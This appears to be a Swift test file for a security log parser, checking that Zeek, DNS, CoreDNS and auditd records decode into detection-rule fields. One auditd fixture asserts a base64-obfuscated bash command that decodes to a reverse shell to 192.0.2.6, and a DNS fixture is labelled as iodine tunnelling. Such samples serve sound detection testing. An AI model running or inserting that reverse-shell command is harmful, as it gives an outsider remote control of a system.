import BulkheadEvent
import Foundation
import Testing
@testable import BulkheadSources

/// Record shapes found in public sample corpora (OTRF, Elastic integration test logs,
/// tshark-derived DNS lines): each is recognised by its format and decodes without errors.
@Suite("Corpus shapes")
struct CorpusShapesTests {
    // MARK: Zeek JSON with underscore keys (OTRF / Mordor), Splunk export

    @Test func zeekConnUnderscoreKeys() throws {
        let lines = try JSONFixture.lines("zeek_conn", "conn_underscore.jsonl")
        let d = try JSONFixture.read(lines[0], expect: "zeek_conn")
        #expect(d.logsource == LogSource(product: "zeek", service: "conn", category: "network_connection"))
        #expect(JSONFixture.field(d.json, "SourceIp") == "10.0.1.6")
        #expect(JSONFixture.field(d.json, "SourcePort") == "54243")
        #expect(JSONFixture.field(d.json, "DestinationIp") == "10.0.0.4")
        #expect(JSONFixture.field(d.json, "DestinationPort") == "53")
        #expect(JSONFixture.field(d.json, "Protocol") == "udp")
        #expect(JSONFixture.field(d.json, "SentBytes") == "39")
        #expect(JSONFixture.entity(d, format: "zeek_conn")["node"] == "sensor-7.example.local")
        #expect(JSONFixture.entity(d, format: "zeek_conn")["source_ip"] == "10.0.1.6")
        // Rules written for dotted Zeek keys read the underscore form through the mapping.
        #expect(JSONFixture.ruleField(d, "id.resp_p", format: "zeek_conn") == "53")
        #expect(JSONFixture.ruleField(d, "id.orig_h", format: "zeek_conn") == "10.0.1.6")
        let tcp = try JSONFixture.read(lines[1], expect: "zeek_conn")
        #expect(JSONFixture.field(tcp.json, "DestinationPort") == "445")
    }

    @Test func zeekDNSUnderscoreKeys() throws {
        let lines = try JSONFixture.lines("zeek_dns", "dns_underscore.jsonl")
        let d = try JSONFixture.read(lines[0], expect: "zeek_dns")
        #expect(d.logsource == LogSource(product: "zeek", service: "dns", category: "dns"))
        #expect(JSONFixture.field(d.json, "QueryName") == "files.example.local")
        #expect(JSONFixture.field(d.json, "record_type") == "A")
        #expect(JSONFixture.values(d.json, "answer") == ["10.0.0.4"])
        #expect(JSONFixture.field(d.json, "SourceIp") == "10.0.1.6")
        #expect(JSONFixture.field(d.json, "DestinationIp") == "10.0.0.4")
        #expect(JSONFixture.ruleField(d, "id.orig_h", format: "zeek_dns") == "10.0.1.6")
        let nx = try JSONFixture.read(lines[1], expect: "zeek_dns")
        #expect(JSONFixture.field(nx.json, "QueryStatus") == "NXDOMAIN")
        #expect(JSONFixture.field(nx.json, "answer") == nil)
    }

    @Test func zeekStreamTagDecidesBetweenConnAndDNS() {
        // A dns record without query fields is still dns when `@stream` says so.
        let dns = #"{"@stream":"dns","uid":"C1","id_orig_h":"10.0.0.1","id_resp_h":"10.0.0.2","proto":"udp","ts":1}"#
        #expect(JSONFixture.sniff(dns) != "zeek_conn")
        let conn = #"{"@stream":"conn","uid":"C1","id_orig_h":"10.0.0.1","id_resp_h":"10.0.0.2","proto":"udp","conn_state":"SF","ts":1}"#
        #expect(JSONFixture.sniff(conn) == "zeek_conn")
    }

    @Test func zeekDNSMixedFileIncludingSplunkExport() throws {
        let lines = try JSONFixture.lines("zeek_dns", "mixed.jsonl")
        #expect(lines.count == 3)
        for line in lines { _ = try JSONFixture.read(line, expect: "zeek_dns") }
        let splunk = try JSONFixture.read(lines[2], expect: "zeek_dns")
        #expect(JSONFixture.field(splunk.json, "query") == "_printer._tcp.local")
        #expect(JSONFixture.field(splunk.json, "SourceIp") == "192.168.86.237")
        #expect(JSONFixture.values(splunk.json, "answer") == ["office-printer._printer._tcp.local"])
        #expect(JSONFixture.entity(splunk, format: "zeek_dns")["node"] == "sensor-9.localdomain")
        #expect(JSONFixture.field(splunk.json, "preview") == nil)
        // Without a Zeek record inside, `result._raw` is not claimed.
        #expect(JSONFixture.sniff(#"{"preview":false,"result":{"_raw":"GET / HTTP/1.1","host":"h"}}"#) == "json")
    }

    // MARK: tshark-derived DNS JSON lines

    @Test func dnsJSONLines() throws {
        let lines = try JSONFixture.lines("dns_jsonl", "tshark.dns.jsonl")
        let q = try JSONFixture.read(lines[0], expect: "dns_jsonl")
        #expect(q.logsource == LogSource(product: "network", service: "dns", category: "dns"))
        #expect(JSONFixture.field(q.json, "query") == "shop.example.com")
        #expect(JSONFixture.field(q.json, "QueryName") == "shop.example.com")
        #expect(JSONFixture.field(q.json, "record_type") == "A")
        #expect(JSONFixture.field(q.json, "QueryType") == "A")
        #expect(JSONFixture.field(q.json, "SourceIp") == "192.168.68.62")
        #expect(JSONFixture.field(q.json, "DestinationIp") == "192.168.68.1")
        #expect(JSONFixture.field(q.json, "DestinationPort") == "53")
        #expect(JSONFixture.field(q.json, "Protocol") == "udp")
        #expect(JSONFixture.field(q.json, "answer") == nil)
        #expect(JSONFixture.field(q.json, "QueryStatus") == nil)
        #expect(JSONFixture.entity(q, format: "dns_jsonl")["source_ip"] == "192.168.68.62")
        let a = try JSONFixture.read(lines[1], expect: "dns_jsonl")
        #expect(JSONFixture.values(a.json, "answer") == ["192.0.2.5", "192.0.2.6"])
        #expect(JSONFixture.field(a.json, "QueryStatus") == "NOERROR")
        // The client of a response is its destination.
        #expect(JSONFixture.entity(a, format: "dns_jsonl")["source_ip"] == "192.168.68.62")
        let mx = try JSONFixture.read(lines[2], expect: "dns_jsonl")
        #expect(JSONFixture.field(mx.json, "record_type") == "MX")
        #expect(JSONFixture.field(mx.json, "QueryStatus") == "NXDOMAIN")
        #expect(JSONFixture.values(mx.json, "answer") == ["h0dr01fxgx0jjgrwbys5by42.t.example.tk"])
        #expect(JSONFixture.field(mx.json, "label") == "tunnel:iodine")
    }

    @Test func dnsJSONLinesQtypeByName() throws {
        let d = try JSONFixture.read(#"{"ts":1,"src_ip":"10.0.0.1","dst_ip":"10.0.0.2","dns_id":"0x1","qname":"example.com.","qtype":"TXT"}"#, expect: "dns_jsonl")
        #expect(JSONFixture.field(d.json, "record_type") == "TXT")
        #expect(JSONFixture.field(d.json, "query") == "example.com")
    }

    // MARK: CoreDNS

    @Test func coreDNSInContainerLogJSON() throws {
        let lines = try JSONFixture.lines("coredns", "coredns-json.log")
        let d = try JSONFixture.read(lines[0], expect: "coredns")
        #expect(d.logsource == LogSource(product: "coredns", service: "dns", category: "dns"))
        #expect(JSONFixture.field(d.json, "query") == "api.example.org.cluster.local")
        #expect(JSONFixture.field(d.json, "record_type") == "A")
        #expect(JSONFixture.field(d.json, "rcode") == "NXDOMAIN")
        #expect(JSONFixture.field(d.json, "SourceIp") == "172.17.0.4")
        #expect(JSONFixture.field(d.json, "@timestamp") == "2019-02-12T00:27:28.903Z")
        #expect(JSONFixture.field(d.json, "stream") == "stdout")
        #expect(JSONFixture.field(d.json, "kubernetes.pod.name") == "coredns-86c58d9df4-jwhsg")
        let e = JSONFixture.entity(d, format: "coredns")
        #expect(e["namespace"] == "kube-system")
        #expect(e["pod"] == "coredns-86c58d9df4-jwhsg")
        #expect(e["node"] == "node-1")
        #expect(e["container_name"] == "coredns")
        #expect(e["workload"] == "coredns")
        #expect(e["source_ip"] == "172.17.0.4")
        // The line keeps its `\n` inside the JSON string.
        let v6 = try JSONFixture.read(lines[1], expect: "coredns")
        #expect(JSONFixture.field(v6.json, "SourceIp") == "::1")
        #expect(JSONFixture.field(v6.json, "duration") == "0.00006286")
        // A banner from the coredns container: recognised, nothing to evaluate.
        #expect(JSONFixture.sniff(lines[2]) == "coredns")
        #expect(try JSONFixture.decode(lines[2], as: "coredns") == nil)
        // Fluentd-style metadata, an errors-plugin line.
        let err = try JSONFixture.read(lines[3], expect: "coredns")
        #expect(JSONFixture.field(err.json, "QueryName") == "files.example.com")
        #expect(JSONFixture.field(err.json, "rcode") == "SERVFAIL")
        #expect(JSONFixture.entity(err, format: "coredns")["pod"] == "coredns-5d78c9869d-abcde")
        #expect(JSONFixture.entity(err, format: "coredns")["node"] == "node-2")
    }

    @Test func coreDNSErrorLinesOnly() throws {
        let format = CoreDNSFormat()
        #expect(format.sniff(try FixtureFiles.head("coredns", "coredns-error.log")))
        let r = try FixtureFiles.decode(format, "coredns", "coredns-error.log")
        #expect(r.errors.isEmpty)
        #expect(r.records.count == 3)
        #expect(r.records.allSatisfy { $0.isValidJSON && $0.kind == 0 })
        let a = r.records[0]
        #expect(a.position == 1)
        #expect(a.value("level") == "ERROR")
        #expect(a.value("query") == "push.example.com")
        #expect(a.value("QueryType") == "A")
        #expect(a.value("rcode") == "SERVFAIL")
        #expect(a.value("rcode_code") == "2")
        #expect(a.value("error") == "dial tcp 1.1.1.1:853: connect: no route to host")
        #expect(r.records[1].value("record_type") == "HTTPS")
        let stamped = r.records[2]
        #expect(stamped.position == 5)
        #expect(stamped.value("@timestamp") == "2024-05-01T10:00:00.000Z")
        #expect(stamped.value("QueryStatus") == "NXDOMAIN")
        // Not CoreDNS: bracketed text that is no level.
        #expect(!format.sniff(["[notice] something happened"]))
    }

    // MARK: auditd

    @Test func auditdUnknownRecordTypeIsNotAnError() throws {
        let r = try FixtureFiles.decode(AuditdFormat(), "auditd", "unknown-type.log")
        #expect(r.errors.isEmpty)
        #expect(r.records.allSatisfy { $0.isValidJSON })
        let unknown = try #require(r.records.first { $0.values("type") == ["UNKNOWN[1329]"] })
        #expect(unknown.position == 3)
        #expect(unknown.value("raw") == "type=UNKNOWN[1329] msg=g")
        #expect(r.records.count == 3)
        // Other malformed stamps are still reported.
        let bad = FixtureFiles.decode(AuditdFormat(), lines: ["type=SYSCALL msg=g"])
        #expect(bad.errors.count == 1)
    }

    @Test func auomsInAzureMonitorSyslog() throws {
        let lines = try JSONFixture.lines("auditd", "auoms-syslog.jsonl")
        let java = try JSONFixture.read(lines[0], expect: "auditd")
        // This exec failed (success=no, ENOENT): decoded, but not a process creation.
        #expect(java.rewritten && java.kind == 0)
        #expect(java.logsource == LogSource(product: "linux", service: "auditd"))
        #expect(JSONFixture.values(java.json, "type") == ["AUOMS_EXECVE"])
        #expect(JSONFixture.field(java.json, "syscall") == "execve")
        #expect(JSONFixture.field(java.json, "success") == "no")
        #expect(JSONFixture.field(java.json, "exe") == "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
        #expect(JSONFixture.field(java.json, "Image") == "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
        #expect(JSONFixture.field(java.json, "proctitle") == "/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Djava.util.l")
        #expect(JSONFixture.field(java.json, "CommandLine") == JSONFixture.field(java.json, "proctitle"))
        #expect(JSONFixture.field(java.json, "@timestamp") == "2022-05-11T18:10:21.986Z")
        #expect(JSONFixture.field(java.json, "serial") == "84138")
        #expect(JSONFixture.field(java.json, "a0") == "7fcd3bdfb8e0")
        #expect(JSONFixture.values(java.json, "name") == ["/usr/local/sbin/bash"])
        #expect(JSONFixture.field(java.json, "-Djava.util.logging.config.file") == nil)
        let e = JSONFixture.entity(java, format: "auditd")
        #expect(e["node"] == "web-5")
        #expect(e["user"] == "tomcat")

        let bash = try JSONFixture.read(lines[1], expect: "auditd")
        #expect(bash.kind == 1)
        #expect(JSONFixture.field(bash.json, "cmdline") == #"bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjYvNDQzIDA+JjEK}|{base64,-d}|{bash,-i}""#)
        #expect(JSONFixture.field(bash.json, "CommandLine") == JSONFixture.field(bash.json, "cmdline"))
        #expect(JSONFixture.field(bash.json, "argc") == "3")
        #expect(JSONFixture.field(bash.json, "Image") == "/bin/bash")
        #expect(JSONFixture.field(bash.json, "CurrentDirectory") == "/opt/tomcat")
        #expect(JSONFixture.field(bash.json, "ProcessId") == "17790")
        #expect(JSONFixture.field(bash.json, "ParentProcessId") == "1340")
        #expect(JSONFixture.field(bash.json, "key") == "auoms,delete")
        #expect(JSONFixture.field(bash.json, "redactors") == nil || JSONFixture.field(bash.json, "redactors") == "")

        // A plain auditd line in SyslogMessage: one record per line.
        let plain = try JSONFixture.read(lines[2], expect: "auditd")
        #expect(plain.kind == 1)
        #expect(JSONFixture.field(plain.json, "syscall") == "execve")
        #expect(JSONFixture.field(plain.json, "exe") == "/usr/bin/id")
        #expect(JSONFixture.field(plain.json, "key") == "recon")
        #expect(JSONFixture.entity(plain, format: "auditd")["node"] == "web-5")
    }

    @Test func newFormatsRegistered() {
        for id in ["dns_jsonl", "coredns", "auditd"] {
            #expect(JSONFixture.jsonFormats.contains { $0.mapping.id == id }, "\(id) has no JSON format")
        }
        #expect(Formats.index(of: "dns_jsonl") != nil)
        // Text formats keep their ids first, so `--format auditd` / `coredns` pick the text form.
        if let i = Formats.index(of: "auditd"), case .text = Formats.all[i] {} else { Issue.record("auditd is not the text format first") }
        if let i = Formats.index(of: "coredns"), case .text = Formats.all[i] {} else { Issue.record("coredns is not the text format first") }
    }
}
